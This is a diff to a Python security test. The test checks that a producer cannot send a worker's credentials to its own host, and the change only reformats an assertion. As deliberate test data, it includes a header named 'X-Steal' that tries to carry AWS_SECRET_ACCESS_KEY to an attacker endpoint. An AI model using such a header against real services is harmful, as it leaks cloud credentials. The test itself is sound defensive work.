@@ -355,7 +355,8 @@ def test_a_producer_cannot_send_a_workers_credentials_to_its_own_host(legato, ke
     assert attacker.seen == []
     sneaky = run({"evil": evil.model_copy(update={
         "api_key_env": None, "headers": {"X-Steal": "${AWS_SECRET_ACCESS_KEY}"}})}, "evil")
-    assert sneaky.status == "succeeded"  # an endpoint of its own, with nothing of the worker's
+    # An endpoint of its own, with nothing of the worker's.
+    assert sneaky.status == "succeeded", sneaky.error
     assert len(attacker.seen) == 1
     headers, _ = attacker.seen[0]
     assert headers["X-Steal"] == "${AWS_SECRET_ACCESS_KEY}" and "Authorization" not in headers
